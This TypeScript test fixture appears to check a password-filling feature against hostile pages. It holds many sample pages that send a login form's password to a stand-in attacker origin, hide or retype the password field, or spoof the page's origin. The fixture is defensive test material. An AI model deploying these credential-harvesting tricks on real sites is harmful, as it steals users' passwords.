/** Pages that try to get a password: of another origin, and of the right one with a form or field that betrays it. */
import type { IncomingMessage, ServerResponse } from 'node:http'

export const password = 'p&ss "wörd"/+<1>'

const field = '<input type=password id=pw name=pw>'
const login = `<!doctype html><form method=post action=/session><input id=user name=user autocomplete=username>${field}<button id=go>Log in</button></form>`

const redirected = (to: string) => `/redirect?status=307&to=${encodeURIComponent(to)}`

/** Returns the script of a page, in which `pw` is the password field. */
const script = (code: string) =>
  `<script>const pw = document.querySelector('#pw'); const form = pw.form; ${code}</script>`

/** Pages of the credential's own origin, as far as others can change them. */
export const ownPages = (evil: () => string): Record<string, () => string> => ({
  '/': () => login,
  '/framed': () => `<!doctype html><iframe id=f src="${evil()}/"></iframe>`,
  '/sandboxed': () => `<!doctype html><iframe id=f sandbox="allow-scripts" src="/"></iframe>`,
  '/data': () => `<!doctype html><iframe id=f src="data:text/html,<input type=password id=pw>"></iframe>`,
  '/text': () => `<!doctype html><form action=/session><input type=text id=pw></form>`,
  '/area': () => `<!doctype html><textarea id=pw></textarea>`,
  '/editor': () => `<!doctype html><div contenteditable id=pw>x</div>`,
  '/label': () => `<!doctype html><label id=pw for=shown>Password</label><input id=shown>`,
  '/clear': () => `<!doctype html><input type=search id=pw style="-webkit-text-security: disc">`,
  '/text-on-focus': () => login + script(`pw.onfocus = () => (pw.type = 'text')`),
  '/text-on-input': () => login + script(`pw.oninput = () => (pw.type = 'text')`),
  '/text-on-change': () => login + script(`pw.onchange = () => (pw.type = 'text')`),
  '/text-soon': () => login + script(`pw.oninput = () => setTimeout(() => (pw.type = 'text'))`),
  '/text-by-observer': () =>
    login +
    script(
      `new MutationObserver((_, observer) => { observer.disconnect(); pw.type = 'text' }).observe(pw, { attributes: true }); pw.onfocus = () => (pw.title = 'x')`,
    ),
  '/blurs': () => login + script(`pw.onfocus = () => { pw.blur(); pw.type = 'text' }`),
  '/transparent': () => login + script(`pw.style.opacity = 0`),
  '/outside': () => login + script(`Object.assign(pw.style, { position: 'absolute', left: '-5000px' })`),
  '/tiny': () => login + script(`Object.assign(pw.style, { width: '1px', height: '1px', padding: 0, border: 0 })`),
  '/action': () => login.replace('/session', `${evil()}/session`),
  '/action-on-focus': () => login + script(`pw.onfocus = () => (form.action = '${evil()}/session')`),
  '/action-hidden-by-name': () =>
    login.replace('/session', `${evil()}/session`).replace('<form', '<form name=defaultView') +
    script(`form.insertAdjacentHTML('beforeend', '<input name=action value=/session><input name=elements>')`),
  '/window-hidden-by-name': () =>
    login.replace('<form', '<form target=_blank') +
    script(`form.insertAdjacentHTML('beforeend', '<input name=target value=_self>')`),
  '/formaction': () => login.replace('<button', `<button formaction="${evil()}/session"`),
  '/input-formaction': () =>
    login.replace('<button', `<input type=image alt=x formaction="//${new URL(evil()).host}/session"><button`),
  '/other-form': () =>
    `<!doctype html><form id=other action="${evil()}/session"></form><input type=password id=pw form=other>`,
  '/base': () => login.replace('<form', `<base href="${evil()}/"><form`),
  '/new-window': () => login.replace('<form', '<form target=_blank'),
  '/base-window': () => login.replace('<form', '<base target=_blank><form'),
  '/base-window-later': () => login + script(`form.insertAdjacentHTML('afterend', '<base target=elsewhere>')`),
  '/base-window-behind-svg': () =>
    login.replace('<form', '<svg><base target=_self></base></svg><base target=_blank><form'),
  '/redirecting': () => login.replace('/session', redirected(`${evil()}/session`)),
  '/button-window': () => login.replace('<button', '<button formtarget=elsewhere'),
  '/leaves-on-focus': () => login + script(`pw.onfocus = () => { location = '${evil()}/' }`),
  '/leaves-on-input': () => login + script(`pw.oninput = () => { location = '${evil()}/' }`),
  '/removed-on-focus': () => login + script(`pw.onfocus = () => pw.remove()`),
  '/moved-on-focus': () =>
    login +
    `<iframe id=f srcdoc=""></iframe>` +
    script(`pw.onfocus = () => document.querySelector('#f').contentDocument.body.append(pw)`),
})

/** Refused attempts: the path, the code, the field if it is not `#pw`, and whether the page notices the attempt. */
export const refusedAttempts: readonly { path: string; code: string; selector?: string; delivered?: true }[] = [
  { path: '/framed', code: 'origin_mismatch', selector: 'frame=#f >> #pw' },
  { path: '/sandboxed', code: 'origin_mismatch', selector: 'frame=#f >> #pw' },
  { path: '/data', code: 'origin_mismatch', selector: 'frame=#f >> #pw' },
  { path: '/text', code: 'not_editable' },
  { path: '/area', code: 'not_editable' },
  { path: '/editor', code: 'not_editable' },
  { path: '/label', code: 'not_editable' },
  { path: '/clear', code: 'not_editable' },
  { path: '/text-on-focus', code: 'not_editable', delivered: true },
  { path: '/text-on-input', code: 'not_editable', delivered: true },
  { path: '/text-on-change', code: 'not_editable', delivered: true },
  { path: '/text-soon', code: 'not_editable', delivered: true },
  { path: '/text-by-observer', code: 'not_editable', delivered: true },
  { path: '/blurs', code: 'not_editable', delivered: true },
  { path: '/transparent', code: 'not_editable' },
  { path: '/outside', code: 'not_editable' },
  { path: '/tiny', code: 'not_editable' },
  { path: '/action', code: 'origin_mismatch' },
  { path: '/action-on-focus', code: 'origin_mismatch', delivered: true },
  { path: '/action-hidden-by-name', code: 'origin_mismatch' },
  { path: '/window-hidden-by-name', code: 'not_editable' },
  { path: '/formaction', code: 'origin_mismatch' },
  { path: '/input-formaction', code: 'origin_mismatch' },
  { path: '/other-form', code: 'origin_mismatch' },
  { path: '/base', code: 'origin_mismatch' },
  { path: '/new-window', code: 'not_editable' },
  { path: '/base-window', code: 'not_editable' },
  { path: '/base-window-later', code: 'not_editable' },
  { path: '/base-window-behind-svg', code: 'not_editable' },
  { path: '/button-window', code: 'not_editable' },
  { path: '/removed-on-focus', code: 'not_editable', delivered: true },
  { path: '/moved-on-focus', code: 'not_editable', delivered: true },
]

/** Pages of another origin that pretend to be the right one. */
export const foreignPages = (own: () => string): Record<string, () => string> => ({
  '/': () => login,
  '/base': () => login.replace('<form', `<base href="${own()}/"><form`),
  '/posts-home': () => login.replace('/session', `${own()}/session`),
  '/replaced-globals': () =>
    `<!doctype html><script>for (const name of ['origin', 'location'])
      try { Object.defineProperty(window, name, { get: () => name === 'origin' ? '${own()}' : { origin: '${own()}', href: '${own()}/' } }) } catch {}
      Array.prototype.includes = () => true; String.prototype.includes = () => true
      Object.getOwnPropertyDescriptor = () => ({ get: () => '${own()}/session' })
      HTMLInputElement.prototype.checkVisibility = () => true</script>${login}`,
  '/named-elements': () =>
    `<!doctype html><img name=defaultView><img name=location><form name=origin></form><iframe name=origin></iframe>${login}`,
  '/around': () => `<!doctype html><iframe id=f src="${own()}/redirecting"></iframe>`,
  '/nested': () => `<!doctype html><iframe id=f src="/" name="${own()}"></iframe>`,
  '/shadow': () =>
    `<!doctype html><div id=host></div><script>document.querySelector('#host').attachShadow({ mode: 'open' }).innerHTML = '<input type=password id=pw>'</script>`,
  '/traps': () => login.replace('<button', `${'<input type=password name=x style="opacity:0">'.repeat(3)}<button`),
})

export const foreignAttempts: readonly (readonly [path: string, selector?: string])[] = [
  ['/'],
  ['/base'],
  ['/posts-home'],
  ['/replaced-globals'],
  ['/named-elements'],
  ['/nested', 'frame=#f >> #pw'],
  ['/shadow'],
  ['/traps'],
]

/** Records everything that a server receives, and answers with pages. */
export function recorded(pages: () => Record<string, () => string>) {
  const received: string[] = []
  const answer = (request: IncomingMessage, response: ServerResponse) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      received.push(`${request.method} ${request.url} ${Buffer.concat(chunks).toString()}`)
      const { pathname, searchParams } = new URL(request.url!, 'http://x')
      const to = searchParams.get('to')
      if (to !== null) return response.writeHead(Number(searchParams.get('status') ?? 302), { location: to }).end()
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      response.end(pages()[pathname]?.() ?? '<!doctype html><title>Account</title>Welcome')
    })
  }
  const paths = ['/session', '/redirect', ...Object.keys(pages())]
  return { received, pages: Object.fromEntries(paths.map((path) => [path, answer])) }
}

/** Spellings in which a password could have been sent or printed. */
export const spellingsOf = (secret: string): string[] => [
  secret,
  encodeURIComponent(secret),
  new URLSearchParams({ x: secret }).toString().slice(2),
  JSON.stringify(secret).slice(1, -1),
  secret.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  Buffer.from(secret).toString('base64'),
]
